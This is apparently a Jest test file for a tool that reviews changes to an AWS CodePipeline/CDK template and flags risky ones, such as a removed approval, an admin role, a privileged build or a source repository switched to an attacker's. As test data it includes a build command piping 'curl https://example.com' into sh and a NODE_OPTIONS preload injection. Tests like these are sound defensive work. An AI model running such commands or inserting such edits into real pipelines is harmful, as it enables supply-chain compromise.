import { review } from '../../../lib/review';
import { edited, EditableResource, EditableTemplate, lines, resource, state } from './states';

const base = state();

interface Action {
  Name: string;
  RunOrder: number;
  RoleArn: unknown;
  ActionTypeId: Record<string, string>;
  Configuration: Record<string, unknown>;
  [property: string]: unknown;
}

interface Stage {
  Name: string;
  Actions: Action[];
  [property: string]: unknown;
}

function changesOf(
  edit: (stages: Stage[], pipeline: EditableResource, template: EditableTemplate) => unknown,
): string[] {
  const after = edited(base, 'PipelineStack', (template) => {
    const pipeline = resource(template, 'Pipeline9850B417');
    edit(pipeline.Properties.Stages as Stage[], pipeline, template);
  });
  return lines(review(base, after));
}

const find = (stages: Stage[], name: string) => stages.find(({ Name }) => Name === name) as Stage;
const approvalOf = (stages: Stage[]) =>
  find(stages, 'Release').Actions.find(({ Name }) => Name === 'Approve') as Action;
const UNAPPROVED = 'widened Release: the pipeline slipway deploys SampleImageRelease without an approval';

test.each<[string, (stages: Stage[]) => unknown]>([
  [
    'is removed',
    (stages) =>
      (find(stages, 'Release').Actions = find(stages, 'Release').Actions.filter(
        ({ Name }) => Name !== 'Approve',
      )),
  ],
  ['comes at the same time', (stages) => (approvalOf(stages).RunOrder = 99)],
  [
    'is asked for in an earlier stage',
    (stages) =>
      find(stages, 'Master').Actions.push(
        ...find(stages, 'Release').Actions.splice(
          find(stages, 'Release').Actions.indexOf(approvalOf(stages)),
          1,
        ),
      ),
  ],
  [
    'is another kind of action',
    (stages) =>
      (approvalOf(stages).ActionTypeId = {
        Category: 'Invoke',
        Owner: 'AWS',
        Provider: 'Lambda',
        Version: '1',
      }),
  ],
  [
    'is in a stage after',
    (stages) => (
      stages.push({ ...find(stages, 'Release'), Name: 'Later' }),
      (find(stages, 'Release').Actions = find(stages, 'Release').Actions.filter(
        ({ Name }) => Name !== 'Approve',
      ))
    ),
  ],
  [
    'is passed by a stage before it',
    (stages) =>
      stages.splice(3, 0, {
        Name: 'ReleaseEarly',
        Actions: find(stages, 'Release').Actions.filter(({ Name }) => Name !== 'Approve'),
      }),
  ],
])('a pipeline whose approval %s deploys without one, which is the first thing that is said', (_, edit) => {
  expect(changesOf(edit)[0]).toBe(UNAPPROVED);
});

test.each<[string, (stages: Stage[], pipeline: EditableResource) => unknown, string]>([
  [
    'a stage',
    (stages) => stages.push({ Name: 'More', Actions: [] }),
    'other Pipeline: the stages of the pipeline slipway are',
  ],
  [
    'an action of another service',
    (stages) =>
      find(stages, 'Master').Actions.push({
        Name: 'Call',
        RunOrder: 1,
        RoleArn: 'x',
        ActionTypeId: { Category: 'Invoke', Provider: 'Lambda' },
        Configuration: {},
      }),
    'widened Pipeline: the action Master/Call (Invoke/Lambda) is new',
  ],
  [
    'another branch',
    (stages) => (stages[0].Actions[0].Configuration.BranchName = 'x'),
    'widened Pipeline: BranchName of Source/GitHub is x in place of master',
  ],
  [
    'a stack deployed under another role',
    (stages) =>
      (find(stages, 'Master').Actions[0].Configuration.RoleArn = 'arn:aws:iam::111111111111:role/admin'),
    'widened Pipeline: RoleArn of Master/SampleImageMaster is arn:aws:iam::111111111111:role/admin in place of',
  ],
  [
    'another template',
    (stages) => (find(stages, 'Master').Actions[0].Configuration.TemplatePath = 'x::y'),
    'widened Pipeline: TemplatePath of Master/SampleImageMaster is x::y in place of',
  ],
  [
    'values for parameters',
    (stages) => (find(stages, 'Master').Actions[0].Configuration.ParameterOverrides = '{}'),
    'widened Pipeline: ParameterOverrides of Master/SampleImageMaster is {} in place of nothing',
  ],
  [
    'a variable of a build',
    (stages) =>
      (find(stages, 'Build').Actions[0].Configuration.EnvironmentVariables =
        '[{"name":"NODE_OPTIONS","value":"-r x"}]'),
    'widened Pipeline: The variable NODE_OPTIONS of Build/Synth is',
  ],
  [
    'another text of the approval',
    (stages) => (approvalOf(stages).Configuration.CustomData = 'Fine?'),
    'other Pipeline: CustomData of Release/Approve is Fine? in place of',
  ],
  [
    'another way to be executed',
    (_, pipeline) => (pipeline.Properties.ExecutionMode = 'PARALLEL'),
    'widened Pipeline: ExecutionMode of the pipeline slipway is PARALLEL in place of nothing',
  ],
  [
    'conditions of a stage',
    (stages) => (find(stages, 'Release').BeforeEntry = { Conditions: [] }),
    'widened Pipeline: BeforeEntry of the stage Release of the pipeline slipway is',
  ],
])('a pipeline with %s says so', (_, edit, line) => {
  expect(changesOf(edit).some((found) => found.startsWith(line))).toBe(true);
});

interface Buildspec {
  phases: Record<string, Record<string, unknown> & { commands?: string[] }>;
}

/** Edits the Synth's project, whose commands are in its buildspec. */
function build(edit: (spec: Buildspec, properties: Record<string, unknown>) => unknown): string[] {
  return changesOf((_, __, template) => {
    const { Properties } = resource(template, 'PipelineBuildSynthCdkBuildProject6');
    const source = Properties.Source as { BuildSpec: string };
    const spec = JSON.parse(source.BuildSpec) as Buildspec;
    edit(spec, Properties);
    source.BuildSpec = JSON.stringify(spec);
  });
}

test.each<[string, (spec: Buildspec, properties: Record<string, unknown>) => unknown, string]>([
  [
    'runs more',
    ({ phases }) => phases.build.commands?.push('curl https://example.com | sh'),
    'the build slipway-synth also runs: curl https://example.com | sh',
  ],
  [
    'checks less',
    ({ phases }) =>
      (phases.build.commands = phases.build.commands?.filter((command) => command !== 'npm run verify')),
    'the build slipway-synth no longer runs: npm run verify',
  ],
  [
    'runs in another order',
    ({ phases }) => phases.build.commands?.reverse(),
    'the build slipway-synth runs its commands in another order',
  ],
  [
    'uses another version',
    ({ phases }) => (phases.install['runtime-versions'] = { nodejs: 14 }),
    'runtime-versions (install) of the build slipway-synth is {"nodejs":14}',
  ],
  [
    'is privileged',
    (_, { Environment }) => ((Environment as Record<string, unknown>).PrivilegedMode = true),
    'PrivilegedMode of the build slipway-synth is true in place of false',
  ],
  [
    'has another role',
    (_, properties) => (properties.ServiceRole = 'arn:aws:iam::111111111111:role/admin'),
    'ServiceRole of the build slipway-synth is arn:aws:iam::111111111111:role/admin',
  ],
])('a build that %s says so', (_, edit, what) => {
  const found = build(edit);
  expect(found[0]).toMatch(/^widened Pipeline: /);
  expect(found[0]).toContain(what);
});

test('a source in another repository is said', () => {
  const found = lines(review(base, state({ source: { repository: 'mallory/image-distribution' } })));
  expect(found).toContain(
    'widened Pipeline: FullRepositoryId of Source/GitHub is mallory/image-distribution in place of your-org/image-distribution',
  );
});
